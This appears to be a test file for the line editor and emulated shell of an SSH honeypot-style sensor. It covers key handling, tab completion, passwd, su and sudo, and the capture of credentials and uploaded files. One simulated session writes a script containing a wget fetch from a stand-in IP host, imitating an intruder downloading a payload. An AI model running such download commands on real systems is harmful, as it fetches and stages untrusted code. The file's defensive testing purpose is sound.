import fc from 'fast-check'
import type { Client, ClientChannel } from 'ssh2'
import { expect, test } from 'vitest'
import { Reader } from '../runtime/reader.ts'
import { cut, testSensor } from '../testing.ts'
import { connect } from '../services/ssh/testing.ts'
import { completionOf } from './complete.ts'
import { Files } from './files.ts'
import { columns, LineEditor, type Completer } from './editor.ts'

/** What a terminal of one line shows after bytes were written to it. */
function screen(bytes: string): string {
  const cells: string[] = []
  let at = 0
  for (const c of Buffer.from(bytes, 'latin1')
    .toString('utf8')
    .replace(/\u0007/g, '')) {
    if (c === '\b') at = Math.max(0, at - 1)
    else if (c !== '\r' && c !== '\n') cells[at++] = c
  }
  return cells.join('').trimEnd()
}

async function type(keys: string | readonly Uint8Array[], complete?: Completer) {
  const input = new Reader()
  let out = ''
  const editor = new LineEditor(
    {
      input,
      pty: true,
      signal: new AbortController().signal,
      write: async (bytes) => void (out += typeof bytes === 'string' ? bytes : Buffer.from(bytes).toString('latin1')),
    },
    complete,
  )
  for (const part of typeof keys === 'string' ? [Buffer.from(keys)] : keys) input.push(part)
  input.end()
  const line = await editor.read('$ ', { command: true }).catch(() => undefined)
  return { line: line?.toString('utf8'), out, screen: screen(out) }
}
const [left, right, home, end, up] = ['\u001b[D', '\u001b[C', '\u001b[H', '\u001b[F', '\u001b[A']

test('what is typed, moved and erased is what stands on the screen and what is read', async () => {
  const cases: readonly [keys: string, line: string][] = [
    ['echo hi\r', 'echo hi'],
    [`ac${left}b\r`, 'abc'],
    [`bc${home}a${end}d\r`, 'abcd'],
    ['abc\u0001X\u0005Y\r', 'XabcY'],
    [`abcd${left}${left}\u000b\r`, 'ab'],
    ['one two three\u0017\r', 'one two '],
    ['one two\u0015three\r', 'three'],
    [`abc${left}${left}\u001b[3~\r`, 'ac'],
    [`abc${left}\u007f\r`, 'ac'],
    [`héé${left}\u007f${right}!\r`, 'hé!'],
    [`x${left}${left}${left}${right}${right}${right}y\r`, 'xy'],
    ['\u001b[200~pasted\u001b[201~\r', 'pasted'],
  ]
  for (const [keys, line] of cases) {
    const read = await type(keys)
    expect([read.line, read.screen], JSON.stringify(keys)).toEqual([line, `$ ${line}`.trimEnd()])
  }
})

test('keys in any order read the same however the network cuts them, and the screen tells the truth', async () => {
  const key = fc.constantFrom(
    'a',
    'b',
    ' ',
    'é',
    '/',
    '\u007f',
    '\u0001',
    '\u0005',
    '\u000b',
    '\u0015',
    '\u0017',
    left,
    right,
    home,
    end,
    up,
    '\u001b[3~',
  )
  await fc.assert(
    fc.asyncProperty(fc.array(key, { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 6 }), async (keys, places) => {
      const bytes = Buffer.from(`${keys.join('')}\r`)
      const whole = await type([bytes])
      expect(whole.screen).toBe(`$ ${whole.line ?? ''}`.trimEnd())
      // A sequence of a key is not cut: those take 50 ms to be told from the Escape key.
      if (!bytes.includes(27)) expect((await type([...cut(bytes, places)])).line).toBe(whole.line)
    }),
    { numRuns: 60 },
  )
})

test('a long line costs no more than its length', async () => {
  const long = 'a'.repeat(60_000)
  const began = performance.now()
  expect((await type(`${long}" b\u0017\u0017c\r`)).line).toBe('c')
  await using lab = await testSensor()
  const files = new Files(
    { persona: lab.sensor.persona, world: { version: 0, overlay: new Map() } } as never,
    lab.sensor.persona.machine.users[0]!,
  )
  for (const before of [`${long}"b`, `${' '.repeat(60_000)}x`, `cat ${'\\ '.repeat(20_000)}`])
    completionOf(files.now, { before, cwd: '/', home: '/root', path: '/usr/bin' })
  expect(performance.now() - began).toBeLessThan(10_000)
})

test('Tab completes, rings, and lists at the second time', async () => {
  const complete: Completer = (before) =>
    before.endsWith('pas')
      ? { insert: 'swd ', choices: ['passwd'] }
      : before.endsWith('pa')
        ? { insert: '', choices: ['passwd', 'paste', 'patch'] }
        : { insert: '', choices: [] }
  expect((await type('cat pas\t\r', complete)).line).toBe('cat passwd ')
  const twice = await type('pa\t\ts\t\r', complete)
  expect(twice.line).toBe('passwd ')
  expect(twice.out).toContain('\u0007\r\npasswd  paste   patch\r\n$ pa')
  expect(columns(['a', 'bb', 'c'])).toBe('a   bb  c\r\n')
})

/** A shell at a terminal: what is typed, and what comes until something is there. */
async function terminal(client: Client, term: string) {
  let out = ''
  const stream = await new Promise<ClientChannel>((resolve, reject) =>
    client.shell({ term }, (error, channel) => (error ? reject(error) : resolve(channel))),
  )
  stream.on('data', (part: Buffer) => (out += part.toString('latin1')))
  const say = async (keys: string, until: RegExp): Promise<string> => {
    out = ''
    stream.write(keys)
    for (let i = 0; i < 800 && !until.test(out); i++) await new Promise((resolve) => setTimeout(resolve, 10))
    return out.replace(/\r/g, '')
  }
  return { stream, say }
}

test('at a terminal: passwords are asked for, read waits, cat takes lines up to ^D, ^C gives up, Tab knows the machine', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const { say, stream } = await terminal(client, 'xterm')
  const prompt = /# $/
  await say('', prompt)
  expect(await say('passwd\r', /: $/)).toBe('passwd\nNew password: ')
  expect(await say('n3w-one\r', /Retype.*: $/)).toBe('\nRetype new password: ')
  expect(await say('n3w-one\r', prompt)).toMatch(/^\npasswd: password updated successfully\n\S+# $/)
  expect((await lab.until('credential.changed')).data).toMatchObject({ user: 'root', secret: 'n3w-one' })
  expect(await say('read -p "who? " who\r', /who\? $/)).toContain('who? ')
  await say('me\r', prompt)
  expect(await say('echo [$who]\r', prompt)).toContain('\n[me]\n')
  await say('cat > /tmp/typed.sh\r', /sh\r\n$/)
  stream.write('#!/bin/sh\rwget http://192.0.2.3/typed\r')
  await say('\u0004', prompt)
  expect(await say('cat /tmp/typed.sh | wc -l\r', prompt)).toContain('\n2\n')
  expect((await lab.until('artifact.stored', ({ data }) => data.name === '/tmp/typed.sh')).data.size).toBe(38)
  await say('cat\r', /cat\r\n$/)
  expect(await say('x\u0003', prompt)).toContain('^C\n')
  expect(await say('cat /etc/hostn\t\r', prompt)).toContain(
    `cat /etc/hostname \n${lab.sensor.persona.machine.hostname}\n`,
  )
  expect(await say('hostna\t\r', prompt)).not.toContain('not found')
  client.end()
  expect(lab.log).toEqual([])
}, 30_000)

test('su and sudo ask who one is, keep what is tried, and let go on as another', async () => {
  await using lab = await testSensor()
  const { credentials } = lab.sensor.persona
  const root = credentials.find(({ user }) => user === 'root')
  const other = credentials.find(({ user }) => user !== 'root')
  const client = await connect(lab, { username: other?.user ?? '', password: other?.password ?? '' })
  const { say } = await terminal(client, 'vt100')
  await say('', /\$ $/)
  expect(await say('su\r', /: $/)).toBe('su\nPassword: ')
  expect(await say('wrong\r', /\$ $/)).toContain('\nsu: Authentication failure\n')
  await say('su -\r', /: $/)
  expect(await say(`${root?.password}\r`, /# $/)).toMatch(/^\nroot@\S+:~# $/)
  expect(await say('id -un; pwd\r', /# $/)).toContain('\nroot\n/root\n')
  expect(await say('exit\r', /\$ $/)).toContain('logout\n')
  expect(await say('id -un\r', /\$ $/)).toContain(`\n${other?.user}\n`)
  expect(await say('sudo id -u\r', /: $/)).toContain(`[sudo] password for ${other?.user}: `)
  expect(await say(`${other?.password}\r`, /\$ $/)).toContain('\n0\n')
  expect(await say('sudo -i\r', /# $/)).toMatch(/root@\S+:~# $/)
  expect(await say('su nosuch\r', /# $/)).toContain('su: user nosuch does not exist')
  client.end()
  const tried = (await lab.events()).flatMap((event) =>
    event.kind === 'auth.attempt' && /^su/.test(event.data.method)
      ? [[event.data.method, event.data.secret, event.data.accepted]]
      : [],
  )
  expect(tried).toEqual([
    ['su', 'wrong', false],
    ['su', root?.password, true],
    ['sudo', other?.password, true],
  ])
  expect(lab.log).toEqual([])
}, 30_000)
